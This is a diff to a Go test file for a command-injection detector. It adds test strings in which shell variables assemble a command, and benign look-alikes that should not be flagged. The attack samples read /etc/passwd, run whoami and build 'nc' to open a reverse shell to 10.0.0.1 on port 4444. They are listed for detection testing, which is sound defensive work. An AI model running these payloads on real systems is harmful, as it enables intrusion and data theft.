@@ -51,3 +51,23 @@ var findExecBenign = []placedCase{
 func TestFindExec(t *testing.T) {
 	checkPlaced(t, "cmdi", findExecAttacks, 0.99, findExecBenign, 0.75)
 }
+
+// Variables that assemble a command, then run it: PayloadsAllTheThings'
+// "a=c;b=at;c=/etc/passwd;$a$b $c" and the CRS's 932200 tests
+// (Apache-2.0). Assignments whose line runs nothing hostile stay apart.
+var varsAttacks = []placedCase{
+	{"a=c;b=at;c=/etc/passwd;$a$b $c", nil},
+	{"c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;a5=/;a6=p;a7=a;a8=s;a9=s;a10=w;a11=d;$c1$c2$c3$c4$a1$a2$a3$a4$a5$a6$a7$a8$a9$a10$a11", nil},
+	{"u=wh;v=oami;$u$v", nil},
+	{"x=\"n\"\"c\"; ${x} -e /bin/sh 10.0.0.1 4444", nil},
+}
+
+var varsBenign = []placedCase{
+	{"price=5; total=$price", nil},
+	{"a=1 b=2 then $a plus $b", nil},
+	{"color=red;size=$m", nil},
+}
+
+func TestVariablesAssembleCommand(t *testing.T) {
+	checkPlaced(t, "cmdi", varsAttacks, 0.99, varsBenign, 0.75)
+}
